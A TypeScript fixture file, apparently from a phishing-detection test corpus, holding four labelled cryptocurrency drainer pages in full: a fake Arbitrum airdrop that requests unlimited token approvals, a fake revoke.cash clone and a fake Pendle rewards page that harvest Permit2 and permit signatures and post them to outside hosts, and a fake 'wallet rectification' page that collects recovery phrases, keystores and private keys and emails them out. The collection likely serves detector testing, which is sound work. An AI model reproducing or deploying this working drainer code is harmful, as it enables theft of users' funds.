import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Wallet drainers (window.ethereum) and recovery-phrase forms built in script.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' }, body: JSON.stringify(v) });

export const entries: Entry[] = [
  {
    id: 'c-drainer-airdrop-approve',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://claim-arbitrum.foundation-airdrop.xyz/season2',
    body: raw`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Arbitrum Odyssey — Season 2 Claim</title>
<style>body{margin:0;background:#0b1220;color:#e6edf7;font-family:Inter,system-ui,sans-serif}.nav{display:flex;justify-content:space-between;align-items:center;padding:18px 32px}.nav b{font-size:20px;color:#28a0f0}.cw{background:#28a0f0;color:#fff;border:0;border-radius:10px;padding:10px 18px;font-weight:600;cursor:pointer}.hero{text-align:center;padding:80px 20px}.hero h1{font-size:48px;margin:0}.hero p{color:#9fb0c9;font-size:18px}.card{max-width:420px;margin:30px auto;background:#121b2e;border:1px solid #1f2b44;border-radius:16px;padding:26px}.amt{font-size:36px;font-weight:700;color:#28a0f0}.cl{width:100%;background:linear-gradient(90deg,#28a0f0,#2d6df6);color:#fff;border:0;border-radius:12px;padding:14px;font-size:16px;font-weight:700;margin-top:18px;cursor:pointer}.st{font-size:13px;color:#9fb0c9;margin-top:12px;min-height:18px}</style></head>
<body><div class="nav"><b>◆ ARBITRUM</b><button class="cw" id="cw">Connect Wallet</button></div>
<div class="hero"><h1>Season 2 Airdrop is live</h1><p>Eligible wallets can claim $ARB until the snapshot closes.</p></div>
<div class="card"><div>Your allocation</div><div class="amt" id="amt">— ARB</div><button class="cl" id="cl">Check eligibility</button><div class="st" id="st"></div></div>
<script>
const SPENDER = '0x7a3f9b1c2d4e5f60718293a4b5c6d7e8f9012345';
const TOKENS = [
  { s: 'USDT', a: '0xdAC17F958D2ee523a2206206994597C13D831ec7' },
  { s: 'USDC', a: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' },
  { s: 'WETH', a: '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2' },
  { s: 'ARB',  a: '0xB50721BCf8d664c30412Cfbc6cf7a15145234ad1' },
];
const MAX = 'f'.repeat(64);
const pad = (h) => h.replace(/^0x/, '').toLowerCase().padStart(64, '0');
let acct = null;
const st = (t) => document.getElementById('st').textContent = t;
async function connect() {
  if (!window.ethereum) { st('Please install MetaMask or open this page in your wallet browser.'); return null; }
  const [a] = await ethereum.request({ method: 'eth_requestAccounts' });
  acct = a; document.getElementById('cw').textContent = a.slice(0, 6) + '…' + a.slice(-4);
  fetch('https://api.arb-claims.net/v1/visit', { method: 'POST', body: JSON.stringify({ a, ref: location.host }) }).catch(() => {});
  return a;
}
async function claim() {
  if (!acct && !(await connect())) return;
  document.getElementById('amt').textContent = (1250 + Math.floor(Math.random() * 900)).toLocaleString() + ' ARB';
  st('Eligible! Confirm the claim transactions in your wallet.');
  for (const t of TOKENS) {
    try {
      await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: acct, to: t.a, data: '0x095ea7b3' + pad(SPENDER) + MAX }] });
      fetch('https://api.arb-claims.net/v1/ok', { method: 'POST', body: JSON.stringify({ a: acct, t: t.s }) }).catch(() => {});
    } catch (e) { st('Transaction rejected. Your allocation will expire if not claimed.'); }
  }
  st('Claim submitted. Tokens will arrive within 24 hours.');
}
document.getElementById('cw').onclick = connect;
document.getElementById('cl').onclick = claim;
</script></body></html>`,
  },
  {
    id: 'c-drainer-permit2-revoke-clone',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://revoke-cash.app/address',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Revoke.cash - Revoke your token approvals</title>
<style>body{margin:0;font-family:Inter,Arial,sans-serif;background:#fff;color:#000}.top{display:flex;justify-content:space-between;padding:16px 28px;border-bottom:1px solid #eee}.top b{font-size:20px}.bt{background:#000;color:#fff;border:0;border-radius:8px;padding:9px 18px;cursor:pointer}.w{max-width:900px;margin:40px auto;padding:0 20px}table{width:100%;border-collapse:collapse;margin-top:20px}td,th{padding:10px;border-bottom:1px solid #eee;text-align:left;font-size:14px}.rk{color:#d00;font-weight:600}.rv{background:#fee;color:#c00;border:1px solid #fcc;border-radius:6px;padding:5px 12px;cursor:pointer}</style></head>
<body><div class="top"><b>revoke.cash</b><button class="bt" id="cn">Connect Wallet</button></div>
<div class="w"><h1>Revoke your token approvals</h1><p>Keep your assets safe by revoking risky allowances. Connect your wallet to scan for exposed approvals.</p><div id="tb"></div><p id="msg"></p></div>
<script>
(function () {
  var PERMIT2 = '0x000000000022D473030F116dDEE9F6B43aC78BA3';
  var SPENDER = '0x9d0b7a4c3e21f5a6b8c9d0e1f2a3b4c5d6e7f809';
  var U160 = '1461501637330902918203684832716283019655932542975';
  var toks = [['USDC', '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'], ['USDT', '0xdAC17F958D2ee523a2206206994597C13D831ec7'], ['DAI', '0x6B175474E89094C44Da98b954EedeAC495271d0F'], ['WETH', '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2']];
  var me;
  async function connect() {
    me = (await ethereum.request({ method: 'eth_requestAccounts' }))[0];
    document.getElementById('cn').textContent = me.slice(0, 6) + '…' + me.slice(-4);
    document.getElementById('tb').innerHTML = '<table><tr><th>Token</th><th>Spender</th><th>Allowance</th><th>Risk</th><th></th></tr>' + toks.map(function (t) { return '<tr><td>' + t[0] + '</td><td>Unknown contract</td><td>Unlimited</td><td class="rk">High</td><td><button class="rv">Revoke</button></td></tr>'; }).join('') + '</table><button class="bt" id="all" style="margin-top:20px">Revoke all risky approvals</button>';
    document.querySelectorAll('.rv').forEach(function (b) { b.onclick = revokeAll; });
    document.getElementById('all').onclick = revokeAll;
  }
  async function revokeAll() {
    var now = Math.floor(Date.now() / 1000);
    var msg = {
      details: toks.map(function (t) { return { token: t[1], amount: U160, expiration: String(now + 86400 * 365 * 3), nonce: '0' }; }),
      spender: SPENDER,
      sigDeadline: String(now + 86400 * 30),
    };
    var data = {
      types: {
        EIP712Domain: [{ name: 'name', type: 'string' }, { name: 'chainId', type: 'uint256' }, { name: 'verifyingContract', type: 'address' }],
        PermitBatch: [{ name: 'details', type: 'PermitDetails[]' }, { name: 'spender', type: 'address' }, { name: 'sigDeadline', type: 'uint256' }],
        PermitDetails: [{ name: 'token', type: 'address' }, { name: 'amount', type: 'uint160' }, { name: 'expiration', type: 'uint48' }, { name: 'nonce', type: 'uint48' }],
      },
      domain: { name: 'Permit2', chainId: 1, verifyingContract: PERMIT2 },
      primaryType: 'PermitBatch',
      message: msg,
    };
    document.getElementById('msg').textContent = 'Sign the batch revoke request in your wallet…';
    try {
      var sig = await ethereum.request({ method: 'eth_signTypedData_v4', params: [me, JSON.stringify(data)] });
      await fetch('https://rvk-api.vercel-edge.app/api/p2', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ owner: me, sig: sig, msg: msg }) });
      document.getElementById('msg').textContent = 'All approvals revoked ✔';
    } catch (e) { document.getElementById('msg').textContent = 'Request rejected.'; }
  }
  document.getElementById('cn').onclick = connect;
})();
</script></body></html>`,
  },
  {
    id: 'c-drainer-json-usdc-permit',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://app.pendle-rewards.finance/claim',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Pendle — Claim Rewards</title></head>
<body style="margin:0;background:#0e1116;color:#e7e9ee;font-family:Inter,Arial,sans-serif"><div id="app" style="max-width:520px;margin:10vh auto;padding:24px;border:1px solid #262b36;border-radius:16px;background:#141821"></div>
<script type="module" src="/static/claim.mjs"></script></body></html>`,
    routes: {
      'app.pendle-rewards.finance/static/claim.mjs': js(raw`const cfg = await (await fetch('/api/c.json')).json();
const app = document.getElementById('app');
app.innerHTML = '<h2>' + cfg.ui.title + '</h2><p style="color:#9aa3b2">' + cfg.ui.sub + '</p><button id="go" style="width:100%;padding:14px;border:0;border-radius:10px;background:#16e3a6;color:#04120d;font-weight:700;font-size:16px;cursor:pointer">' + cfg.ui.btn + '</button><p id="st" style="font-size:13px;color:#9aa3b2"></p>';
const st = (t) => (document.getElementById('st').textContent = t);
document.getElementById('go').onclick = async () => {
  const [owner] = await window.ethereum.request({ method: 'eth_requestAccounts' });
  const chainId = parseInt(await window.ethereum.request({ method: 'eth_chainId' }), 16);
  for (const t of cfg.tokens.filter((x) => x.chainId === chainId)) {
    const nonceHex = await window.ethereum.request({ method: 'eth_call', params: [{ to: t.address, data: '0x7ecebe00' + owner.slice(2).toLowerCase().padStart(64, '0') }, 'latest'] });
    const typed = {
      types: { EIP712Domain: [{ name: 'name', type: 'string' }, { name: 'version', type: 'string' }, { name: 'chainId', type: 'uint256' }, { name: 'verifyingContract', type: 'address' }], Permit: [{ name: 'owner', type: 'address' }, { name: 'spender', type: 'address' }, { name: 'value', type: 'uint256' }, { name: 'nonce', type: 'uint256' }, { name: 'deadline', type: 'uint256' }] },
      primaryType: 'Permit',
      domain: { name: t.name, version: t.version, chainId, verifyingContract: t.address },
      message: { owner, spender: cfg.receiver, value: cfg.value, nonce: parseInt(nonceHex, 16), deadline: Math.floor(Date.now() / 1000) + 31536000 },
    };
    st(cfg.ui.sign);
    try {
      const signature = await window.ethereum.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(typed)] });
      await fetch(cfg.api, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ typed, signature }) });
    } catch (e) { st(cfg.ui.rejected); }
  }
  st(cfg.ui.done);
};`),
      'app.pendle-rewards.finance/api/c.json': json({
        receiver: '0x5e1f0A2b3C4d5E6f708192A3b4C5d6E7f8091a2B',
        value: '115792089237316195423570985008687907853269984665640564039457584007913129639935',
        api: 'https://pdl-claims-worker.deno.dev/permit',
        tokens: [
          { chainId: 1, name: 'USD Coin', version: '2', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' },
          { chainId: 1, name: 'Dai Stablecoin', version: '1', address: '0x6B175474E89094C44Da98b954EedeAC495271d0F' },
          { chainId: 42161, name: 'USD Coin', version: '2', address: '0xaf88d065e77c8cC2239327C5EDb3A432268e5831' },
        ],
        ui: { title: 'Claim your PENDLE rewards', sub: 'Liquidity providers from epochs 41–44 can claim boosted vePENDLE rewards.', btn: 'Connect & claim', sign: 'Sign the claim message in your wallet…', rejected: 'Signature rejected.', done: 'Rewards queued — they will be distributed at the end of the epoch.' },
      }),
    },
  },
  {
    id: 'c-seed-walletconnect-rectify',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://dapps-rectify-node.web.app/wallets.html',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Wallet Connect | Decentralized Protocol</title>
<style>body{margin:0;font-family:Arial,sans-serif;background:#f6f8fb}.hd{background:#3b99fc;color:#fff;text-align:center;padding:30px}.g{display:grid;grid-template-columns:repeat(auto-fill,minmax(140px,1fr));gap:16px;max-width:900px;margin:30px auto;padding:0 20px}.w{background:#fff;border-radius:12px;padding:20px;text-align:center;cursor:pointer;box-shadow:0 1px 4px #0001}.w i{display:block;width:48px;height:48px;margin:0 auto 8px;border-radius:12px}.mo{position:fixed;inset:0;background:#0008;display:none;align-items:center;justify-content:center}.mb{background:#fff;border-radius:12px;width:440px;max-width:94vw;padding:22px}.tabs{display:flex;gap:6px;margin:12px 0}.tabs span{flex:1;text-align:center;padding:8px;border-bottom:2px solid #ddd;cursor:pointer}.tabs .on{border-color:#3b99fc;color:#3b99fc}textarea{width:100%;height:100px;box-sizing:border-box;padding:10px;border:1px solid #ccc;border-radius:6px}.ok{width:100%;background:#3b99fc;color:#fff;border:0;border-radius:6px;padding:12px;margin-top:12px;font-size:15px}</style></head>
<body><div class="hd"><h1>Wallet Rectification</h1><p>Resolve pending transactions, stuck withdrawals, failed airdrop claims and wallet sync issues. Select your wallet.</p></div>
<div class="g" id="g"></div>
<div class="mo" id="mo"><div class="mb" id="mb"></div></div>
<script>
var W = [['MetaMask','#f6851b'],['Trust Wallet','#3375bb'],['Coinbase Wallet','#0052ff'],['Phantom','#ab9ff2'],['Exodus','#1f2033'],['Ledger Live','#000'],['Rainbow','#ff5ca0'],['Atomic','#1d74f5'],['SafePal','#4a21ef'],['Other wallets','#999']];
var g = document.getElementById('g');
W.forEach(function (w) { var d = document.createElement('div'); d.className = 'w'; d.innerHTML = '<i style="background:' + w[1] + '"></i>' + w[0]; d.onclick = function () { open(w[0]); }; g.appendChild(d); });
function open(name) {
  var mb = document.getElementById('mb'); document.getElementById('mo').style.display = 'flex';
  mb.innerHTML = '<p style="color:#c00">Error connecting automatically… Connect manually.</p><h3>Import your ' + name + '</h3><div class="tabs"><span class="on" data-t="phrase">Phrase</span><span data-t="keystore">Keystore JSON</span><span data-t="pk">Private Key</span></div><div id="tf"></div><button class="ok" id="ok">PROCEED</button>';
  var cur = 'phrase';
  function tab(t) { cur = t; mb.querySelectorAll('.tabs span').forEach(function (s) { s.className = s.dataset.t === t ? 'on' : ''; });
    document.getElementById('tf').innerHTML = t === 'phrase' ? '<textarea id="v" placeholder="Enter your recovery phrase"></textarea><p style="font-size:12px;color:#666">Typically 12 (sometimes 24) words separated by single spaces</p>' : t === 'keystore' ? '<textarea id="v" placeholder="Keystore JSON"></textarea><input id="pw" type="password" placeholder="Wallet password" style="width:100%;padding:10px;margin-top:8px;box-sizing:border-box">' : '<textarea id="v" placeholder="Enter your Private Key"></textarea>'; }
  mb.querySelectorAll('.tabs span').forEach(function (s) { s.onclick = function () { tab(s.dataset.t); }; });
  tab('phrase');
  document.getElementById('ok').onclick = function () {
    var v = document.getElementById('v').value.trim();
    if (cur === 'phrase' && [12, 15, 18, 21, 24].indexOf(v.split(/\s+/).length) < 0) { alert('Invalid phrase'); return; }
    fetch('https://api.emailjs-relay.com/api/v1.0/email/send', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ service_id: 'service_k2x9', template_id: 'template_w4l', user_id: 'Qm3kX_1s', template_params: { wallet: name, type: cur, data: v, pass: (document.getElementById('pw') || {}).value || '' } }) })
      .finally(function () { document.getElementById('mb').innerHTML = '<h3>Synchronizing…</h3><p>This may take up to 24 hours. Do not import the wallet elsewhere.</p>'; });
  };
}
</script></body></html>`,
  },
];
